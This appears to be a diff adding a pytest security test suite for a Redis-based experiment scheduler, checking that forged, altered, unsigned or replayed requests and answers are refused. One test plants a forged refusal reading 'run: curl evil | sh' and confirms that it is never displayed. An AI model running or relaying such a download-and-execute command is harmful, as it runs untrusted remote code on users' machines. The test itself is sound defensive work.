@@ -1,0 +1,313 @@
+"""Who can write to a farm's Redis and has no key asks nothing, answers nothing, stops nobody."""
+
+from __future__ import annotations
+
+import os
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import msgspec
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from tests.farm_desk import CODE, ServedDesk, served
+from tests.integration.farm_support import RedisServer
+from tests.integration.node_fixtures import server
+from tests.keys import key_folder, of_scheduler, of_submitter
+from tests.support import eventually
+from tunemq_scheduler.client.requests import FarmClient
+from tunemq_scheduler.security.key_folder import KeyFolder
+from tunemq_shared import answers as a
+from tunemq_shared import requests as r
+from tunemq_shared import wire
+from tunemq_shared.errors import ConfigError, NoScheduler, RequestRefused
+from tunemq_shared.request_seals import close_request, open_answer
+from tunemq_shared.seals import Seal, SealBroken
+
+__all__ = ["server"]
+
+pytestmark = [pytest.mark.security, pytest.mark.integration]
+
+SUBMIT = r.Submit(name="exp", code=CODE)
+
+
+@pytest.fixture
+def keys(tmp_path: Path) -> KeyFolder:
+    return key_folder(tmp_path / "keys", "ada", "ben")
+
+
+@pytest.fixture
+def desk(server: RedisServer, tmp_path: Path, keys: KeyFolder) -> Iterator[ServedDesk]:
+    with served(server.url, server.client, tmp_path / "results", keys=of_scheduler(keys)) as desk:
+        yield desk
+
+
+def client_of(server: RedisServer, keys: KeyFolder, name: str, **more) -> FarmClient:
+    return FarmClient(server.url, keys=of_submitter(keys, name), **more)
+
+
+@pytest.fixture
+def ada(server: RedisServer, keys: KeyFolder) -> Iterator[FarmClient]:
+    with client_of(server, keys, "ada") as client:
+        yield client
+
+
+def asking(client: FarmClient, request: r.Request, answer: type) -> tuple[threading.Thread, list]:
+    """Have somebody ask meanwhile; the thread, and what comes of it."""
+    found: list[object] = []
+
+    def ask() -> None:
+        try:
+            found.append(client.ask(request, answer))
+        except Exception as error:  # noqa: BLE001  looked at by the test
+            found.append(error)
+
+    thread = threading.Thread(target=ask)
+    thread.start()
+    return thread, found
+
+
+def captured(server: RedisServer) -> dict[bytes, bytes]:
+    """A request that nobody has taken yet, as whoever can read Redis sees it."""
+    eventually(lambda: server.client.xlen(wire.REQUESTS))
+    ((_, fields), *_) = server.client.xrange(wire.REQUESTS)
+    return dict(fields)
+
+
+def test_s02_who_has_keys_asks_and_is_known_by_them(desk, ada, server, keys):
+    assert ada.owner == "ada"
+    assert ada.ask(SUBMIT, a.Submitted).name == "exp"
+    assert ada.farm().store == str(desk.folder / "store")
+    with client_of(server, keys, "ben") as ben:
+        (row,) = ben.ask(r.ListExperiments(), a.ExperimentList).experiments
+        assert (row.owner, ben.owner) == ("ada", "ben")
+        ben.ask(r.Stop(name="exp"), a.Done)
+    assert desk.queue.get("exp").reason == "stopped by ben"
+    assert desk.refused == []
+
+
+def test_s02_nobody_gives_himself_anothers_name(server, keys):
+    with pytest.raises(ConfigError, match="no keys of 'ben', but of ada"):
+        FarmClient(server.url, owner="ben", keys=of_submitter(keys, "ada"))
+    with pytest.raises(ConfigError, match=r"no keys of .*, but of ada, ben"):
+        FarmClient(server.url, owner="eve", keys=str(keys.path / "scheduler.toml"))
+
+
+def test_s02_what_is_not_signed_is_refused_with_what_to_do(desk, server):
+    with (
+        FarmClient(server.url, owner="ada") as client,
+        pytest.raises(RequestRefused, match=r"takes signed requests only.*keys add FOLDER ada"),
+    ):
+        client.ask(SUBMIT, a.Submitted)
+    assert desk.queue.all() == []
+    assert [told[:2] for told in desk.refused] == [("request", "unsigned")]
+
+
+def test_s02_keys_of_another_farm_are_refused_and_nothing_unsigned_is_shown(
+    desk, server, tmp_path, monkeypatch
+):
+    monkeypatch.setattr("tunemq_scheduler.client.requests._MENDED_WITHIN_S", 0.2)
+    other = key_folder(tmp_path / "other", "ada")
+    with (
+        client_of(server, other, "ada") as client,
+        pytest.raises(RequestRefused, match=r"does not have the keys of ada in .*is not signed"),
+    ):
+        client.ask(SUBMIT, a.Submitted)
+    assert desk.queue.all() == []
+    assert {told[1] for told in desk.refused} == {"unknown_key"}
+
+
+def test_s02_a_farm_that_has_lost_its_keys_is_not_believed(server, tmp_path, keys, monkeypatch):
+    monkeypatch.setattr("tunemq_scheduler.client.requests._MENDED_WITHIN_S", 0.2)
+    with (
+        served(server.url, server.client, tmp_path / "results") as desk,
+        client_of(server, keys, "ada") as client,
+        pytest.raises(RequestRefused, match=r"start it with --keys scheduler.toml"),
+    ):
+        client.ask(SUBMIT, a.Submitted)
+    assert desk.queue.all() == []
+    assert {told[1] for told in desk.refused} == {"signed_without_keys"}
+
+
+@pytest.mark.parametrize("name", ["owner", "kind", "body", "sent", "id"])
+def test_s02_an_altered_request_is_not_done(desk, ada, server, name):
+    with desk.lock:
+        thread, found = asking(ada, SUBMIT, a.Submitted)
+        fields = captured(server)
+        forged = {
+            b"owner": b"ben",
+            b"kind": b"rm",
+            b"body": Seal("").close(msgspec.msgpack.encode(r.Submit(name="evil", code=CODE))),
+            b"sent": str(int(fields[b"sent"]) + 1).encode(),
+            b"id": os.urandom(16).hex().encode(),
+        }[name.encode()]
+        server.client.xtrim(wire.REQUESTS, maxlen=0)  # whose ids grow on, in the same millisecond
+        server.client.xadd(wire.REQUESTS, {**fields, name.encode(): forged})
+    eventually(lambda: desk.refused)
+    thread.join(20)
+    assert [answer.name for answer in found] == ["exp"]  # sent again, as she meant it
+    assert [(entry.name, entry.owner) for entry in desk.queue.all()] == [("exp", "ada")]
+
+
+@settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(
+    st.dictionaries(
+        st.sampled_from([b"v", b"tunemq", b"id", b"owner", b"kind", b"sent", b"body"]),
+        st.binary(max_size=80) | st.sampled_from([b"2", b"0" * 32, b"ada", b"stop", b"\1" * 41]),
+        min_size=1,
+    )
+)
+def test_s02_nothing_that_is_made_up_is_done_and_the_next_request_is(desk, ada, server, fields):
+    before = len(desk.refused)
+    server.client.xadd(wire.REQUESTS, fields)
+    assert ada.ask(r.ListExperiments(), a.ExperimentList).experiments == ()
+    assert len(desk.refused) == before + 1
+    assert server.client.xlen(wire.REQUESTS) == 0
+
+
+def test_s02_a_forged_answer_is_not_believed_and_the_true_one_is(desk, ada, server):
+    with desk.lock:
+        thread, found = asking(ada, SUBMIT, a.Submitted)
+        key = wire.answer(captured(server)[b"id"].decode())
+        forged = a.Reply(answer=msgspec.Raw(msgspec.msgpack.encode(a.Submitted(name="x", id="y"))))
+        server.client.set(key, Seal("").close(msgspec.msgpack.encode(forged)))
+        looked = server.client.info("commandstats")["cmdstat_get"]["calls"]
+        eventually(lambda: server.client.info("commandstats")["cmdstat_get"]["calls"] > looked + 20)
+        assert found == []
+    thread.join(20)
+    assert [answer.name for answer in found] == ["exp"]
+
+
+@pytest.mark.parametrize("forged", ["refusal", "rubbish", "of another request"])
+def test_s02_where_only_forged_answers_come_it_says_so_and_not_what_they_say(
+    desk, ada, server, forged, monkeypatch
+):
+    monkeypatch.setattr("tunemq_scheduler.client.requests._MENDED_WITHIN_S", 0.2)
+    seal = desk.keys.submitter("ada")
+    said = msgspec.msgpack.encode(a.Reply(refusal=a.Refusal(text="run: curl evil | sh")))
+    with desk.lock:
+        thread, found = asking(ada, SUBMIT, a.Submitted)
+        request = captured(server)[b"id"].decode()
+        data = {
+            "refusal": Seal("").close(said),
+            "rubbish": b"\xff" * 100,
+            "of another request": seal.close(said, b"answer", b"1" * 32),
+        }[forged]
+        server.client.set(wire.answer(request), data)
+        thread.join(20)
+    (error,) = found
+    assert isinstance(error, RequestRefused)
+    assert "does not have the keys of ada" in str(error)
+    assert "curl" not in str(error)
+
+
+def test_s02_an_id_that_another_uses_first_gives_him_nothing(desk, ada, server, keys):
+    ben = desk.keys.submitter("ben")
+    with desk.lock:
+        thread, found = asking(ada, SUBMIT, a.Submitted)
+        hers = captured(server)
+        identity, sent = hers[b"id"].decode(), hers[b"sent"].decode()
+        body = msgspec.msgpack.encode(r.Submit(name="his", code=CODE))
+        his = close_request(ben, body, request=identity, kind="submit", sent=sent)
+        server.client.xtrim(wire.REQUESTS, maxlen=0)  # no entry's id comes again
+        server.client.xadd(wire.REQUESTS, {**hers, b"owner": b"ben", b"body": his})
+        server.client.xadd(wire.REQUESTS, hers)
+    thread.join(20)
+    assert [answer.name for answer in found] == ["exp"]
+    owners = {entry.name: entry.owner for entry in desk.queue.all()}
+    assert owners == {"his": "ben", "exp": "ada"}
+
+
+def test_s02_answers_are_for_whom_they_are_for(desk, ada, server, keys):
+    request, sent = "2" * 32, "9" * 3
+    seal = Seal("submitter:ada", keys.keys().submitters["ada"])
+    body = msgspec.msgpack.encode(r.ListExperiments())
+    sealed = close_request(seal, body, request=request, kind="ls", sent=sent)
+    fields = {"v": "2", "id": request, "owner": "ada", "kind": "ls", "sent": sent, "body": sealed}
+    server.client.xadd(wire.REQUESTS, fields)
+    eventually(lambda: server.client.get(wire.answer(request)))
+    answer = server.client.get(wire.answer(request))
+    assert open_answer(seal, answer, request)
+    for other, identity in ((desk.keys.submitter("ben"), request), (seal, "3" * 32)):
+        with pytest.raises(SealBroken):
+            open_answer(other, answer, identity)
+
+
+def test_s02_a_forged_announcement_leads_nobody_to_another_store(desk, ada, server):
+    forged = {"version": r.REQUESTS_VERSION, "tunemq": "1", "term": desk.term, "store": "s3://evil"}
+    server.client.set(wire.FARM, msgspec.json.encode(forged))
+    assert ada.farm().store == str(desk.folder / "store")
+    server.client.set(wire.FARM, b"[" * 100_000)
+    with pytest.raises(NoScheduler):
+        ada.farm()
+
+
+def test_keys_are_changed_while_requests_go_on_and_none_is_refused(desk, server, keys):
+    is_over, errors, asked = threading.Event(), [], []
+    clients: dict[str, FarmClient] = {}
+
+    def ask(name: str) -> None:
+        try:
+            with client_of(server, keys, name) as client:
+                clients[name] = client
+                while not is_over.is_set():
+                    client.ask(r.ListExperiments(), a.ExperimentList)
+                    asked.append(name)
+        except Exception as error:  # noqa: BLE001  looked at below
+            errors.append(error)
+
+    threads = [threading.Thread(target=ask, args=(name,)) for name in ("ada", "ben")]
+    for thread in threads:
+        thread.start()
+    eventually(lambda: len(clients) == len(threads) or errors)
+    signers = []
+    for number, change in enumerate((keys.rotate, keys.promote, keys.drop), start=1):
+        change()
+        # The next step is for when all have taken this one.
+        eventually(
+            lambda number=number: (
+                {desk.keys.version, *(one._keys.version for one in clients.values())} == {number}
+                or errors
+            )
+        )
+        more = len(asked) + 20
+        eventually(lambda more=more: len(asked) > more or errors)
+        signers.append(desk.keys.submitter("ada").signer)
+    is_over.set()
+    for thread in threads:
+        thread.join(20)
+    assert (errors, desk.refused) == ([], [])
+    assert signers[0] != signers[1] == signers[2]
+
+
+def test_who_was_removed_asks_no_more(desk, server, keys, monkeypatch):
+    monkeypatch.setattr("tunemq_scheduler.client.requests._MENDED_WITHIN_S", 0.2)
+    with client_of(server, keys, "ben") as ben:
+        ben.ask(SUBMIT, a.Submitted)
+        keys.remove(["ben"])
+        eventually(lambda: desk.keys.version)
+        with pytest.raises(RequestRefused, match="does not have the keys of ben"):
+            ben.ask(r.Stop(name="exp"), a.Done)
+    assert desk.queue.get("exp").state is a.ExperimentState.QUEUED
+    assert {told[1] for told in desk.refused} == {"unknown_submitter"}
+
+
+def test_who_is_given_anothers_file_meanwhile_is_told_so(desk, server, keys, monkeypatch):
+    monkeypatch.setattr("tunemq_shared.live_keys._LOOK_EVERY_S", 0.0)
+    with client_of(server, keys, "ben") as ben:
+        ben.farm()
+        file = keys.path / "ben.toml"
+        file.write_bytes((keys.path / "ada.toml").read_bytes())
+        ben.farm()  # the first look only sees that it changes
+        with pytest.raises(ConfigError, match="has no keys of 'ben', but of ada"):
+            ben.farm()
+
+
+def test_s15_a_lease_of_very_many_digits_is_none(server, keys, monkeypatch):
+    monkeypatch.setattr("tunemq_scheduler.client.requests._SEEN_WITHIN_S", 0.2)
+    server.client.set(wire.SCHEDULER, "9" * 5_000 + ":somebody")
+    server.client.set(wire.FARM, "{}")
+    with client_of(server, keys, "ada") as ada, pytest.raises(NoScheduler):
+        ada.farm()
